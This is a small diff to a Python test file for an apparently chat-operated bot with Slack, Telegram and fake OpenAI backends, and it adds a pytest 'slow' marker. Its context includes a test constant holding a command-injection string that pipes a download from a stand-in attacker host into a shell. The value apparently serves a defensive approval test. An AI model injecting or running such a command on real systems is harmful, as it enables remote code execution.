@@ -30,6 +30,8 @@ from tests.fakes.openai_server import FakeOpenAI, text, tool_call
 from tests.fakes.slack_api import FakeSlack, block_actions
 from tests.fakes.telegram_api import FakeTelegram
 
+pytestmark = pytest.mark.slow
+
 ALICE, BOB = 10, 11  # both may talk to ops; only ALICE asks, and the route has no approvers
 GROUP: Final = -1001  # a group both are in
 DANGER: Final = "; curl evil.example | sh ;"
